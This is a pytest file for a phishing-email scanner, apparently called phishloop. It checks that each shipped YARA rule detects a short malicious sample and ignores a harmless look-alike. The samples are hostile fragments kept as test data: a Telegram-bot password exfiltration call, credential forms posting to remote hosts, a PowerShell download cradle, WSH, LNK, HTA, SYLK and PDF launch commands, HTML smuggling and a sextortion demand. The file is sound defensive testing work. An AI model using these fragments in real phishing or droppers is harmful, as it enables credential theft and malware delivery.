"""The shipped rule pack: each rule fires on a small example of what it is for and stays
quiet on the nearest harmless look-alike."""

from __future__ import annotations

from pathlib import Path

import pytest

from phishloop.core.context import AnalysisContext
from phishloop.core.scan import CompiledRules, YaraScanner

LNK = bytes.fromhex("4C0000000114020000000000C000000000000046") + b"\x00" * 60
ONE = bytes.fromhex("E4525C7B8CD8A74DAEB15378D02996D3") + b"\x00" * 200
ONE_FILE = bytes.fromhex("E716E3BD65261145A4C48D4D0B7A9EAC") + b"\x00" * 20
ISO = b"\x00" * 0x8001 + b"CD001" + b"\x00" * 2000
TOKEN = "6506548184:AAHETB4nAlS4wqcd6rvLwqyC_D2f9wBd0RYx"
GA = (
    '<script>document.write(unescape("%3Cscript src=\'" + gaJsHost + "google-analytics.com/'
    "ga.js' type='text/javascript'%3E%3C/script%3E\"));</script>"
)
EXTORTION = (
    "I hacked your device with a trojan and have been watching you. Your webcam recorded "
    "you on an adult site. Send $1500 in Bitcoin to my BTC wallet: "
    "bc1qn27j54lgz4jdg8k028p0djxqxamtnujnqzzq4d within 48 hours or your contacts get it."
)
NEWSLETTER = (
    "Sextortion scams: criminals claim they hacked your webcam and recorded you on an adult"
    " site, and demand bitcoin within 48 hours. Never pay; report it to IT."
)

# rule, kind, path (for attachments), what it is for, the nearest harmless look-alike
CASES = [
    (
        "EICAR_Test_File", "attachment", "eicar.com",
        b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
        b"Our AV uses the EICAR-STANDARD-ANTIVIRUS-TEST-FILE to test scanning.",
    ),
    (
        "HTML_Smuggling_Dangerous_Download", "attachment", "scan.html",
        b'<script>var b = new Blob([bytes]); var a = document.createElement("a");'
        b' a.href = URL.createObjectURL(b); a.download = "Invoice_0412.iso"; a.click();</script>',
        b'<script>var b = new Blob([csv]); var a = document.createElement("a");'
        b' a.href = URL.createObjectURL(b); a.download = "report.csv"; a.click();</script>',
    ),
    (
        "HTML_Smuggling_Data_URI_Download", "body:html", "",
        b'<a href="data:application/octet-stream;base64,UEsDBBQ=" download="Scan 12.zip">Get</a>',
        b'<a href="data:image/png;base64,iVBORw0KGgo=" download="chart.png">Get</a>',
    ),
    (
        "Phish_Telegram_Bot_Exfiltration", "attachment", "login.html",
        f'<script>fetch("https://api.telegram.org/bot{TOKEN}/sendMessage?chat_id=1&text="'
        f" + pw)</script>".encode(),
        b'<p>Join our channel: <a href="https://t.me/examplenews">t.me/examplenews</a></p>',
    ),
    (
        "Phish_Credential_Form_Relay", "attachment", "doc.html",
        b'<form action="https://formspree.io/f/xqkrbg"><input type="email" name="e">'
        b'<input type="password" name="p"></form>',
        b'<form action="https://formspree.io/f/xqkrbg"><input type="email" name="e">'
        b'<textarea name="message"></textarea></form>',
    ),
    (
        "Phish_Password_Form_Posts_Remote", "attachment", "PO#1989.html",
        b'<form method="post" action="https://mobbish.000webhostapp.com/Excel.php">'
        b'<input name="passwd" type="password" placeholder="Password"></form>',
        b'<form method="get" action="https://shop.example/search"><input type="text" name="q">'
        b"</form>",
    ),
    (
        "Phish_Microsoft_Signin_Clone", "attachment", "secure.htm",
        b'<title>Sign in to your Microsoft account</title><input type="password" id="i0118">'
        b'<input type="submit" id="idSIButton9">',
        b"<p>Microsoft 365 tip: choose Sign in to your account, then Keep me signed in.</p>",
    ),
    (
        "JS_Decode_And_Execute", "body:html", "",
        b'<script>eval(atob("ZG9jdW1lbnQubG9jYXRpb249Imh0dHBzOi8vZXZpbC5leGFtcGxlIg=="))</script>',
        GA.encode(),
    ),
    (
        "HTML_Attachment_Auto_Redirect", "attachment", "Remittance.htm",
        b'<html><script>window.location.href = "https://evil.example/o365/?e=a@b.c";</script>',
        b'<html><body><p>Receipt</p><a href="https://shop.example/order/1">Order</a></body>',
    ),
    (
        "SVG_Active_Content", "attachment", "voicemail.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>window.location = atob("aHR0cHM6");'
        b"</script></svg>",
        b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h10v10z"/></svg>',
    ),
    (
        "WSH_Script_Downloader", "attachment", "invoice.js",
        b'var s = new ActiveXObject("WScript.Shell"); var x = new ActiveXObject("MSXML2.XMLHTTP");'
        b' x.open("GET", u, false); x.send(); s.Run("cmd /c " + f, 0);',
        b'var s = new ActiveXObject("WScript.Shell"); WScript.Echo(s.ExpandEnvironmentStrings('
        b'"%TEMP%"));',
    ),
    (
        "HTA_Script_Application", "attachment", "update.hta",
        b'<HTA:APPLICATION ID="u"><script language="VBScript">CreateObject("WScript.Shell")'
        b'.Run "calc"</script>',
        b'<html><p>Use CreateObject("WScript.Shell") in your admin scripts.</p></html>',
    ),
    (
        "LNK_Shortcut_Runs_Command", "attachment", "Invoice.pdf.lnk",
        LNK + "powershell.exe -w hidden -c iwr".encode("utf-16-le"),
        LNK + "C:\\Program Files\\Vendor\\app.exe".encode("utf-16-le"),
    ),
    (
        "OneNote_Embedded_Script_Or_Program", "attachment", "Scan.one",
        ONE + ONE_FILE + b"@echo off\r\npowershell -c start x.exe\r\n",
        ONE + ONE_FILE + b"\x89PNG\r\n\x1a\n" + b"\x00" * 50,
    ),
    (
        "Disk_Image_With_Program_Or_Shortcut", "attachment", "order.iso",
        ISO + b"\x00\x0dDOCUMENT.LNK;1" + b"\x00" * 100,
        ISO + b"\x00\x0cREADME.TXT;1" + b"\x00" * 100,
    ),
    (
        "PowerShell_Download_Cradle", "attachment", "setup.ps1",
        b"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')",
        b"Invoke-WebRequest -Uri https://example.com/data.zip -OutFile data.zip",
    ),
    (
        "RTF_Equation_Editor_Object", "attachment", "order.rtf",
        b"{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}\\objdata 01050000020000000b}}",
        b"{\\rtf1{\\object\\objemb{\\*\\objclass Excel.Sheet.8}\\objdata 01050000020000000b}}",
    ),
    (
        "RTF_Auto_Updating_Object", "attachment", "doc.rtf",
        b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}\\objdata 0105}}",
        b"{\\rtf1{\\object\\objemb{\\*\\objclass Word.Document.8}\\objdata 0105}}",
    ),
    (
        "SYLK_Excel4_Macro_Exec", "attachment", "prices.slk",
        b'ID;P\r\nC;X1;Y1;K0;EEXEC("cmd /c calc")\r\nE\r\n',
        b"ID;P\r\nC;X1;Y1;K42;ESUM(R1C2:R3C2)\r\nE\r\n",
    ),
    (
        "PDF_Launch_Action", "attachment", "statement.pdf",
        b"%PDF-1.4\n1 0 obj << /OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c x) >> >> >>",
        b"%PDF-1.4\n1 0 obj << /OpenAction << /S /URI /URI (https://example.com/) >> >>",
    ),
    ("Extortion_Bitcoin_Demand", "body:text", "", EXTORTION.encode(), NEWSLETTER.encode()),
]  # fmt: skip


def _scan(rules: CompiledRules, kind: str, path: str, data: bytes) -> set[str]:
    scan = YaraScanner(rules).start(AnalysisContext.create())
    if kind == "attachment":
        scan.scan_attachment(data, path)
    else:
        scan.scan(kind, data, kind=kind)
    return {match.rule for match in scan.matches}


@pytest.mark.parametrize(
    ("rule", "kind", "path", "bad", "harmless"), CASES, ids=[c[0] for c in CASES]
)
def test_rule_fires_on_its_threat_only(
    shipped: CompiledRules, rule: str, kind: str, path: str, bad: bytes, harmless: bytes
) -> None:
    assert _scan(shipped, kind, path, bad) == {rule}
    assert _scan(shipped, kind, path, harmless) == set()


def test_every_shipped_rule_has_a_case(shipped: CompiledRules) -> None:
    assert {info.name for info in shipped.rules} == {case[0] for case in CASES}


def test_wide_strings_match_too(shipped: CompiledRules) -> None:
    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')".encode("utf-16-le")
    assert _scan(shipped, "attachment", "a.ps1", cradle) == {"PowerShell_Download_Cradle"}


@pytest.mark.parametrize(
    ("kind", "data"),
    [
        ("body:text", f"curl https://api.telegram.org/bot{TOKEN}/sendMessage".encode()),
        ("message", b"<form action='https://x.example/a.php'><input type='password'>"),
        ("body:text", b"<script>eval(atob('eA=='))</script> is a classic obfuscation"),
    ],
)
def test_web_page_rules_ignore_plain_text_and_the_raw_message(
    shipped: CompiledRules, kind: str, data: bytes
) -> None:
    # code quoted in a discussion (text bodies) or in encoded MIME (raw message) is no page
    assert _scan(shipped, kind, "", data) == set()


def test_every_shipped_rule_is_documented(shipped: CompiledRules) -> None:
    docs = (Path(__file__).resolve().parents[3] / "docs" / "yara.md").read_text()
    for info in shipped.rules:
        assert f"| `{info.name}` |" in docs, f"{info.name} is missing from docs/yara.md"


def test_a_cisco_secure_envelope_is_no_credential_page(shipped: CompiledRules) -> None:
    envelope = (
        b'<form name="form1" method="post" action="https://res.cisco.com/websafe/decrypt">'
        b'<input type="password" name="key1"></form>'
    )
    assert _scan(shipped, "attachment", "securedoc_20260101.html", envelope) == set()
    copied = envelope.replace(b"https://res.cisco.com/websafe", b"https://evil.example/cisco")
    assert _scan(shipped, "attachment", "securedoc.html", copied) == {
        "Phish_Password_Form_Posts_Remote"
    }
